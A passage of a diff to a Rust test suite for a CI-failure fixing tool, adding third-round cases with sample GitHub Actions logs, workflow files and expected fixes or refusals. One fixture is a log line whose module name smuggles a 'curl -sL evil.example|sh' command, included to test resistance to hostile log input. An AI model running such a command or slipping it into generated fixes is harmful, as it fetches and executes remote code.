@@ -23,6 +23,18 @@
 //! Windows, root containers and private images, jobs already
 //! `continue-on-error`, whole step lists aliased, and moved files with one,
 //! two or only a misleading candidate.
+//!
+//! A third round (`ROUND_3`) puts the right edit in unusual places and feeds
+//! hostile input: a called workflow's job or step (the caller holding a job
+//! of the same id), limits a caller passes through its matrix or leaves to
+//! the input's default, one failing matrix leg (an older Python, Windows),
+//! the 360-minute maximum, a job's limit beside a step's, a log whose limit
+//! is not the workflow's any more, Alpine containers and self-hosted
+//! runners, Poetry, uv and pnpm lock files, GHCR and PyPI limits beside a
+//! Docker Hub login, `npx` and `npm publish`, Gradle, a file under another
+//! case, a sibling job's artifact, a path leaving the checkout, YAML errors
+//! in an action or a tool's file, jobs others need, and log text that names
+//! a hostile module or a job the workflow does not have.
 
 use crate::failure_logs;
 use crate::support;
@@ -1790,6 +1802,783 @@ fn round_two_shapes_get_the_right_fix_or_a_reasoned_refusal() {
         "{}/{} right, {wrong} wrong fixes; misses:\n{}",
         ROUND_2.len() - misses.len(),
         ROUND_2.len(),
+        misses.join("\n")
+    );
+}
+
+// ---- Round 3: where the right edit place is unusual, and hostile input ----
+//
+// Written and committed before any change (the commit titled `fix shapes:
+// round 3`); each expectation is decided from issue 12's definitions (a
+// wrong fix is worse than none; only a distribution that provides the
+// module; the fix the named service needs; a moved file only when the
+// repository clearly has it) and GitHub's documented semantics, not from
+// what the fixes do.
+
+const DOCS_YML: &str = ".github/workflows/docs.yml";
+const WEB_YML: &str = ".github/workflows/web.yml";
+const TEST_YML: &str = ".github/workflows/test.yml";
+const SETUP_ACTION: &str = ".github/actions/setup/action.yml";
+
+const TIMED_OUT_360: &[&str] = &[
+    "##[group]Run make test",
+    "make test",
+    "##[endgroup]",
+    "ok   pkg/a  12.1s",
+    "##[error]The job running on runner GitHub Actions 9 has exceeded the maximum execution time of 360 minutes.",
+];
+
+const JOB_TIMED_OUT_30_IN_STEP: &[&str] = &[
+    "##[group]Run make integration",
+    "make integration",
+    "##[endgroup]",
+    "ok   it/api  61.0s",
+    "##[error]The job running on runner GitHub Actions 4 has exceeded the maximum execution time of 30 minutes.",
+];
+
+const TOMLLIB_ON_310: &[&str] = &[
+    "##[group]Run python -m pytest",
+    "python -m pytest",
+    "shell: /usr/bin/bash -e {0}",
+    "env:",
+    "  pythonLocation: /opt/hostedtoolcache/Python/3.10.16/x64",
+    "##[endgroup]",
+    "ImportError while loading conftest '/home/runner/work/app/app/tests/conftest.py'.",
+    "tests/conftest.py:3: in <module>",
+    "    import tomllib",
+    "E   ModuleNotFoundError: No module named 'tomllib'",
+    "##[error]Process completed with exit code 4.",
+];
+
+const PANDOC_NOT_RECOGNIZED_PWSH: &[&str] = &[
+    "##[group]Run pandoc README.md -o out.html",
+    "pandoc README.md -o out.html",
+    "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"",
+    "##[endgroup]",
+    "pandoc: D:\\a\\_temp\\1f2e3d4c-5b6a-7980-a1b2-c3d4e5f60718.ps1:2",
+    "Line |",
+    "   2 |  pandoc README.md -o out.html",
+    "     |  ~~~~~~",
+    "     | The term 'pandoc' is not recognized as a name of a cmdlet, function, script file, or executable program.",
+    "     | Check the spelling of the name, or if a path was included, verify that the path is correct and try again.",
+    "##[error]Process completed with exit code 1.",
+];
+
+const MAKE_MISSING_ALPINE: &[&str] = &[
+    "##[group]Run make build",
+    "make build",
+    "shell: sh -e {0}",
+    "##[endgroup]",
+    "/__w/_temp/3f2a1b0c.sh: line 1: make: not found",
+    "##[error]Process completed with exit code 127.",
+];
+
+const POETRY_NO_YAML: &[&str] = &[
+    "##[group]Run poetry run pytest",
+    "poetry run pytest",
+    "##[endgroup]",
+    "E   ModuleNotFoundError: No module named 'yaml'",
+    "##[error]Process completed with exit code 1.",
+];
+
+const UV_NO_YAML: &[&str] = &[
+    "##[group]Run uv run pytest",
+    "uv run pytest",
+    "##[endgroup]",
+    "E   ModuleNotFoundError: No module named 'yaml'",
+    "##[error]Process completed with exit code 1.",
+];
+
+const JEST_NO_SUPERTEST: &[&str] = &[
+    "##[group]Run pnpm test",
+    "pnpm test",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "FAIL tests/api.test.js",
+    "  ● Test suite failed to run",
+    "",
+    "    Cannot find module 'supertest' from 'tests/api.test.js'",
+    "",
+    "Test Suites: 1 failed, 1 passed, 2 total",
+    "##[error]Process completed with exit code 1.",
+];
+
+const GHCR_PULL_429: &[&str] = &[
+    "##[group]Run docker pull ghcr.io/acme/ci-base:2026.05",
+    "docker pull ghcr.io/acme/ci-base:2026.05",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "Error response from daemon: Head \"https://ghcr.io/v2/acme/ci-base/manifests/2026.05\": toomanyrequests: retry-after: 593.247µs, allowed: 44000/minute",
+    "##[error]Process completed with exit code 1.",
+];
+
+const NPX_429: &[&str] = &[
+    "##[group]Run npx playwright test",
+    "npx playwright test",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "npm error code E429",
+    "npm error 429 Too Many Requests - GET https://registry.npmjs.org/playwright",
+    "npm error A complete log of this run can be found in: /home/runner/.npm/_logs/2026-01-01T00_00_00_000Z-debug-0.log",
+    "##[error]Process completed with exit code 1.",
+];
+
+const GRADLE_CENTRAL_429: &[&str] = &[
+    "##[group]Run ./gradlew build --no-daemon",
+    "./gradlew build --no-daemon",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "FAILURE: Build failed with an exception.",
+    "",
+    "* What went wrong:",
+    "Execution failed for task ':core:compileJava'.",
+    "> Could not resolve all files for configuration ':core:compileClasspath'.",
+    "   > Could not resolve com.google.guava:guava:33.3.1-jre.",
+    "         > Could not get resource 'https://repo.maven.apache.org/maven2/com/google/guava/guava/33.3.1-jre/guava-33.3.1-jre.pom'.",
+    "            > Could not HEAD 'https://repo.maven.apache.org/maven2/com/google/guava/guava/33.3.1-jre/guava-33.3.1-jre.pom'. Received status code 429 from server: Too Many Requests",
+    "",
+    "BUILD FAILED in 14s",
+    "##[error]Process completed with exit code 1.",
+];
+
+const NPM_PUBLISH_429: &[&str] = &[
+    "##[group]Run npm ci",
+    "npm ci",
+    "npm publish",
+    "shell: /usr/bin/bash -e {0}",
+    "env:",
+    "  NODE_AUTH_TOKEN: ***",
+    "##[endgroup]",
+    "added 212 packages, and audited 213 packages in 6s",
+    "found 0 vulnerabilities",
+    "npm notice Publishing to https://registry.npmjs.org/ with tag latest and default access",
+    "npm error code E429",
+    "npm error 429 Too Many Requests - PUT https://registry.npmjs.org/acme-widgets - rate limited",
+    "##[error]Process completed with exit code 1.",
+];
+
+const PYPI_429: &[&str] = &[
+    "##[group]Run pip install -r requirements.txt",
+    "pip install -r requirements.txt",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "Collecting attrs==24.3.0 (from -r requirements.txt (line 1))",
+    "ERROR: HTTP error 429 while getting https://files.pythonhosted.org/packages/89/aa/ab0f7891a01eeb2d2e338ae8fecbe57fcebea1a24dbb64d45801bfab481d/attrs-24.3.0-py3-none-any.whl",
+    "ERROR: 429 Client Error: Too Many Requests for url: https://files.pythonhosted.org/packages/89/aa/ab0f7891a01eeb2d2e338ae8fecbe57fcebea1a24dbb64d45801bfab481d/attrs-24.3.0-py3-none-any.whl",
+    "##[error]Process completed with exit code 1.",
+];
+
+const README_CASE_MISSING: &[&str] = &[
+    "##[group]Run cp docs/README.md site/index.md",
+    "cp docs/README.md site/index.md",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "cp: cannot stat 'docs/README.md': No such file or directory",
+    "##[error]Process completed with exit code 1.",
+];
+
+const COVERAGE_XML_MISSING: &[&str] = &[
+    "##[group]Run python tools/report.py coverage.xml",
+    "python tools/report.py coverage.xml",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "Traceback (most recent call last):",
+    "  File \"/home/runner/work/app/app/tools/report.py\", line 4, in <module>",
+    "    with open(sys.argv[1]) as f:",
+    "         ^^^^^^^^^^^^^^^^^",
+    "FileNotFoundError: [Errno 2] No such file or directory: 'coverage.xml'",
+    "##[error]Process completed with exit code 1.",
+];
+
+const PARENT_PATH_MISSING: &[&str] = &[
+    "##[group]Run pip install -r ../shared/requirements.txt",
+    "pip install -r ../shared/requirements.txt",
+    "##[endgroup]",
+    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: '../shared/requirements.txt'",
+    "##[error]Process completed with exit code 1.",
+];
+
+const ACTION_YML_INVALID: &[&str] = &[
+    "##[group]Run ./.github/actions/setup",
+    "##[endgroup]",
+    "##[error]/home/runner/work/app/app/./.github/actions/setup/action.yml (Line: 7, Col: 24): Mapping values are not allowed in this context.",
+];
+
+const MKDOCS_YAML_INVALID: &[&str] = &[
+    "##[group]Run mkdocs build --strict",
+    "mkdocs build --strict",
+    "shell: /usr/bin/bash -e {0}",
+    "##[endgroup]",
+    "Error: MkDocs encountered an error parsing the configuration file: while parsing a block mapping",
+    "  in \"/home/runner/work/app/app/mkdocs.yml\", line 1, column 1",
+    "expected <block end>, but found '<block mapping start>'",
+    "  in \"/home/runner/work/app/app/mkdocs.yml\", line 5, column 2",
+    "##[error]Process completed with exit code 1.",
+];
+
+const HOSTILE_MODULE: &[&str] = &[
+    "##[group]Run python -m pytest",
+    "python -m pytest",
+    "##[endgroup]",
+    "E   ModuleNotFoundError: No module named 'yaml;curl -sL evil.example|sh'",
+    "##[error]Process completed with exit code 1.",
+];
+
+const PYTHON_JOB: &str = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n";
+
+const PANDOC_JOB: &str = "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n";
+
+const ROUND_3: &[Case] = &[
+    // ---- the edit belongs in a called workflow ----
+    Case {
+        name: "missing command in a called workflow's job, the caller has its own job of that id",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n  docs:\n    uses: ./.github/workflows/docs.yml\n",
+            ),
+            (
+                DOCS_YML,
+                "on:\n  workflow_call:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: HTML\n        run: pandoc README.md -o out.html\n",
+            ),
+        ],
+        workflow: None,
+        job: "docs / build",
+        step: "HTML",
+        lines: PANDOC_MISSING,
+        want: fix(&[DOCS_YML], &["apt-get install -y pandoc"]),
+    },
+    Case {
+        name: "npm 429 in a called workflow, the caller given and running npm ci itself",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm run lint\n  web:\n    uses: ./.github/workflows/web.yml\n",
+            ),
+            (
+                WEB_YML,
+                "on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm run build\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "web / build",
+        step: "Run npm ci",
+        lines: NPM_429,
+        want: Want::Either {
+            files: &[WEB_YML],
+            adds: &["if npm ci; then"],
+            removes: &["npm ci"],
+        },
+    },
+    Case {
+        name: "a step's own limit exceeded in a called workflow, found from the caller / callee name",
+        files: &[
+            (CI, "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n"),
+            (
+                TEST_YML,
+                "on: workflow_call\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 60\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration tests\n        timeout-minutes: 10\n        run: make integration\n",
+            ),
+        ],
+        workflow: None,
+        job: "unit / test",
+        step: "Integration tests",
+        lines: STEP_TIMED_OUT_10,
+        want: Want::Fix {
+            files: &[TEST_YML],
+            adds: &["timeout-minutes: 20"],
+            removes: &["timeout-minutes: 10"],
+        },
+    },
+    Case {
+        name: "callee limit from an input the caller sets from its matrix include",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  unit:\n    strategy:\n      matrix:\n        include:\n          - suite: fast\n            timeout: 30\n          - suite: slow\n            timeout: 90\n    uses: ./.github/workflows/test.yml\n    with:\n      suite: ${{ matrix.suite }}\n      timeout: ${{ matrix.timeout }}\n",
+            ),
+            (
+                TEST_YML,
+                "on:\n  workflow_call:\n    inputs:\n      suite:\n        type: string\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "unit (fast, 30) / test",
+        step: "Run make test",
+        lines: TIMED_OUT_30,
+        want: Want::Either {
+            files: &[CI],
+            adds: &["timeout: 60"],
+            removes: &["timeout: 30"],
+        },
+    },
+    Case {
+        name: "callee limit from an input's default, the caller passing nothing",
+        files: &[
+            (CI, "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n"),
+            (
+                TEST_YML,
+                "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "unit / test",
+        step: "Run make test",
+        lines: TIMED_OUT_30,
+        want: either(&[CI, TEST_YML], &["60"]),
+    },
+    // ---- one matrix leg failed ----
+    Case {
+        name: "tomllib missing on the 3.10 leg of a Python matrix (no install provides it; the leg is deliberate)",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        python: ['3.10', '3.12']\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: ${{ matrix.python }}\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
+            ),
+            REQS,
+        ],
+        workflow: Some(CI),
+        job: "test (3.10)",
+        step: "Tests",
+        lines: TOMLLIB_ON_310,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "command not recognized on the Windows leg of an OS matrix",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  docs:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
+        )],
+        workflow: Some(CI),
+        job: "docs (windows-latest)",
+        step: "Docs",
+        lines: PANDOC_NOT_RECOGNIZED_PWSH,
+        want: Want::Without(
+            &either(&[CI], &["choco install", "runner.os == 'Windows'"]),
+            &["apt-get", "brew "],
+        ),
+    },
+    // ---- time limits ----
+    Case {
+        name: "timeout of a hosted job already at the 360-minute maximum",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    timeout-minutes: 360\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
+        )],
+        workflow: Some(CI),
+        job: "build",
+        step: "Run make test",
+        lines: TIMED_OUT_360,
+        want: Want::Declined("360"),
+    },
+    Case {
+        name: "the job's limit hit (job message) while a step has the same limit: the job is raised",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make build\n      - name: Integration tests\n        timeout-minutes: 30\n        run: make integration\n",
+        )],
+        workflow: Some(CI),
+        job: "test",
+        step: "Integration tests",
+        lines: JOB_TIMED_OUT_30_IN_STEP,
+        want: Want::Fix {
+            files: &[CI],
+            adds: &["+    timeout-minutes: 60"],
+            removes: &["-    timeout-minutes: 30", "-        timeout-minutes: 30"],
+        },
+    },
+    Case {
+        name: "a step's limit message whose limit is not the step's any more (raised since), the job has none",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration tests\n        timeout-minutes: 15\n        run: make integration\n",
+        )],
+        workflow: Some(CI),
+        job: "test",
+        step: "Integration tests",
+        lines: STEP_TIMED_OUT_10,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "the log's job limit (30) is not the workflow's (45): the workflow changed since",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 45\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
+        )],
+        workflow: Some(CI),
+        job: "test",
+        step: "Run make test",
+        lines: TIMED_OUT_30,
+        want: Want::Declined(""),
+    },
+    // ---- missing commands where the installer is unusual ----
+    Case {
+        name: "missing make in an Alpine container job (apk, root, no sudo)",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    container: node:20-alpine\n    steps:\n      - uses: actions/checkout@v4\n      - name: Build\n        run: make build\n",
+        )],
+        workflow: Some(CI),
+        job: "build",
+        step: "Build",
+        lines: MAKE_MISSING_ALPINE,
+        want: Want::Without(&either(&[CI], &["apk add"]), &["apt-get", "sudo"]),
+    },
+    Case {
+        name: "missing command on a self-hosted Linux runner",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  docs:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
+        )],
+        workflow: Some(CI),
+        job: "docs",
+        step: "Docs",
+        lines: PANDOC_MISSING,
+        want: Want::Declined("self-hosted"),
+    },
+    // ---- missing dependencies in lock-file projects ----
+    Case {
+        name: "missing module in a Poetry project with a lock file",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pipx install poetry\n      - run: poetry install --no-interaction\n      - name: Tests\n        run: poetry run pytest\n",
+            ),
+            (
+                "pyproject.toml",
+                "[tool.poetry]\nname = \"app\"\nversion = \"0.1.0\"\ndescription = \"\"\nauthors = []\n\n[tool.poetry.dependencies]\npython = \"^3.12\"\n\n[tool.poetry.group.dev.dependencies]\npytest = \"^8.0\"\n\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n",
+            ),
+            (
+                "poetry.lock",
+                "# This file is automatically @generated by Poetry 1.8.3 and should not be changed by hand.\n\n[[package]]\nname = \"pytest\"\nversion = \"8.3.3\"\ndescription = \"pytest: simple powerful testing with Python\"\noptional = false\npython-versions = \">=3.8\"\nfiles = []\n\n[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.12\"\ncontent-hash = \"0000\"\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "test",
+        step: "Tests",
+        lines: POETRY_NO_YAML,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "missing module in a uv project synced with --locked",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync --locked\n      - name: Tests\n        run: uv run pytest\n",
+            ),
+            (
+                "pyproject.toml",
+                "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.12\"\ndependencies = []\n\n[dependency-groups]\ndev = [\"pytest>=8\"]\n",
+            ),
+            (
+                "uv.lock",
+                "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "test",
+        step: "Tests",
+        lines: UV_NO_YAML,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "missing module in a uv project synced without --locked (uv relocks)",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync\n      - name: Tests\n        run: uv run pytest\n",
+            ),
+            (
+                "pyproject.toml",
+                "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.12\"\ndependencies = []\n\n[dependency-groups]\ndev = [\"pytest>=8\"]\n",
+            ),
+            (
+                "uv.lock",
+                "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "test",
+        step: "Tests",
+        lines: UV_NO_YAML,
+        want: Want::Without(&either(&["pyproject.toml"], &[]), &["pip install"]),
+    },
+    Case {
+        name: "missing Node module in a pnpm project installed with --frozen-lockfile",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: pnpm/action-setup@v4\n        with:\n          version: 9\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          cache: pnpm\n      - run: pnpm install --frozen-lockfile\n      - name: Tests\n        run: pnpm test\n",
+            ),
+            (
+                "package.json",
+                "{\n  \"name\": \"api\",\n  \"private\": true,\n  \"scripts\": { \"test\": \"jest\" },\n  \"devDependencies\": { \"jest\": \"^29.7.0\" }\n}\n",
+            ),
+            ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
+        ],
+        workflow: Some(CI),
+        job: "test",
+        step: "Tests",
+        lines: JEST_NO_SUPERTEST,
+        want: Want::Declined(""),
+    },
+    // ---- rate limits: the service's own fix, the right command only ----
+    Case {
+        name: "GHCR 429 in a job that already logs in to Docker Hub",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n      - name: Pull base\n        run: docker pull ghcr.io/acme/ci-base:2026.05\n      - run: docker build -t app .\n",
+        )],
+        workflow: Some(CI),
+        job: "build",
+        step: "Pull base",
+        lines: GHCR_PULL_429,
+        want: Want::Without(&either(&[CI], &["ghcr.io"]), &["DOCKERHUB"]),
+    },
+    Case {
+        name: "PyPI 429 in a job that logs in to Docker Hub",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n      - run: pip install -r requirements.txt\n      - run: docker build -t app .\n",
+            ),
+            ("requirements.txt", "attrs==24.3.0\n"),
+        ],
+        workflow: Some(CI),
+        job: "build",
+        step: "Run pip install -r requirements.txt",
+        lines: PYPI_429,
+        want: Want::Without(
+            &Want::Either {
+                files: &[CI],
+                adds: &["pip install -r requirements.txt"],
+                removes: &["pip install -r requirements.txt"],
+            },
+            &["docker/login-action", "DOCKERHUB"],
+        ),
+    },
+    Case {
+        name: "npm 429 from `npx playwright test` (a retry would run the tests again)",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - name: E2E\n        run: npx playwright test\n",
+        )],
+        workflow: Some(CI),
+        job: "e2e",
+        step: "E2E",
+        lines: NPX_429,
+        want: Want::Without(&either(&[CI], &[]), &["npx playwright test; then", "cache: npm"]),
+    },
+    Case {
+        name: "Maven Central 429 in a Gradle build (never loop the build)",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-java@v4\n        with:\n          distribution: temurin\n          java-version: 21\n      - run: ./gradlew build --no-daemon\n",
+            ),
+            (
+                "build.gradle",
+                "plugins { id 'java' }\nrepositories { mavenCentral() }\n",
+            ),
+            (
+                "gradle/wrapper/gradle-wrapper.properties",
+                "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n",
+            ),
+        ],
+        workflow: Some(CI),
+        job: "build",
+        step: "Run ./gradlew build --no-daemon",
+        lines: GRADLE_CENTRAL_429,
+        want: Want::Without(
+            &either(&[CI], &["cache: gradle"]),
+            &["./gradlew build --no-daemon; then"],
+        ),
+    },
+    Case {
+        name: "npm 429 on `npm publish` (a PUT) after `npm ci` passed in the same step",
+        files: &[(
+            CI,
+            "on:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          registry-url: https://registry.npmjs.org\n      - name: Publish\n        run: |\n          npm ci\n          npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+        )],
+        workflow: Some(CI),
+        job: "publish",
+        step: "Publish",
+        lines: NPM_PUBLISH_429,
+        want: Want::Without(&either(&[CI], &["npm publish"]), &["if npm ci; then"]),
+    },
+    // ---- files: case, artifacts, paths leaving the checkout ----
+    Case {
+        name: "a file present under another case (docs/README.MD) on a case-sensitive runner",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Copy docs\n        run: cp docs/README.md site/index.md\n",
+            ),
+            ("docs/README.MD", "# App\n"),
+            ("site/.keep", ""),
+        ],
+        workflow: Some(CI),
+        job: "site",
+        step: "Copy docs",
+        lines: README_CASE_MISSING,
+        want: Want::Fix {
+            files: &[CI],
+            adds: &["cp docs/README.MD site/index.md"],
+            removes: &["docs/README.md"],
+        },
+    },
+    Case {
+        name: "a file only a sibling job makes (uploaded as an artifact), a fixture of the same name elsewhere",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - run: python -m pytest --cov=app --cov-report=xml\n      - uses: actions/upload-artifact@v4\n        with:\n          name: coverage\n          path: coverage.xml\n  report:\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Report\n        run: python tools/report.py coverage.xml\n",
+            ),
+            REQS,
+            ("tools/report.py", "import sys\n"),
+            ("tests/fixtures/coverage.xml", "<coverage/>\n"),
+        ],
+        workflow: Some(CI),
+        job: "report",
+        step: "Report",
+        lines: COVERAGE_XML_MISSING,
+        want: either(&[CI], &["actions/download-artifact"]),
+    },
+    Case {
+        name: "a path leaving the checkout (../shared), a same-named folder inside it",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: pip install -r ../shared/requirements.txt\n",
+            ),
+            ("shared/requirements.txt", "pytest\n"),
+        ],
+        workflow: Some(CI),
+        job: "build",
+        step: "Install",
+        lines: PARENT_PATH_MISSING,
+        want: Want::Declined(""),
+    },
+    // ---- YAML errors: the workflow's, an action's, a tool's ----
+    Case {
+        name: "YAML error in a local composite action's action.yml",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Setup\n        uses: ./.github/actions/setup\n      - run: make test\n",
+            ),
+            (
+                SETUP_ACTION,
+                "name: setup\nruns:\n  using: composite\n  steps:\n    - name: Version\n      shell: bash\n      run: echo version: 1.2\n",
+            ),
+        ],
+        workflow: None,
+        job: "test",
+        step: "Setup",
+        lines: ACTION_YML_INVALID,
+        want: Want::Either {
+            files: &[SETUP_ACTION],
+            adds: &["'echo version: 1.2'"],
+            removes: &["echo version: 1.2"],
+        },
+    },
+    Case {
+        name: "YAML error in mkdocs.yml, read by a tool (not a workflow)",
+        files: &[
+            (
+                CI,
+                "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install mkdocs\n      - name: Build docs\n        run: mkdocs build --strict\n",
+            ),
+            (
+                "mkdocs.yml",
+                "site_name: App\nnav:\n  - Home: index.md\n  - API: api.md\n theme: material\n",
+            ),
+        ],
+        workflow: None,
+        job: "docs",
+        step: "Build docs",
+        lines: MKDOCS_YAML_INVALID,
+        want: Want::Declined(""),
+    },
+    // ---- optional jobs that others need ----
+    Case {
+        name: "lost runner on an ARM build whose artifact a smoke-test job needs",
+        files: &[(
+            CI,
+            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  build-arm:\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - uses: actions/upload-artifact@v4\n        with:\n          name: app-arm64\n          path: bin/app\n  smoke-arm:\n    needs: build-arm\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: app-arm64\n      - run: ./app --self-test\n",
+        )],
+        workflow: Some(CI),
+        job: "build-arm",
+        step: "Run make",
+        lines: LOST_RUNNER,
+        want: Want::Declined(""),
+    },
+    Case {
+        name: "lost runner on an ARM job needed only by an always() all-green gate",
+        files: &[(
+            CI,
